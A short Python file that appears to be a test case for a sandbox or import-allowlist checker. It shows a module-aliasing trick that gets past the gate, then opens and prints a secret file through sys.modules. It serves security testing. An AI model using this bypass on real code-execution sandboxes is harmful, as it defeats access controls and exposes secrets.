# attack: one name stands for two modules; the gate takes the last, the script uses the first
# family: attribute
import statistics as m
sys = m.sys
import math as m
print("REACHED", sys, m.pi)
print(sys.modules["io"].open("$SECRET_FILE").read())
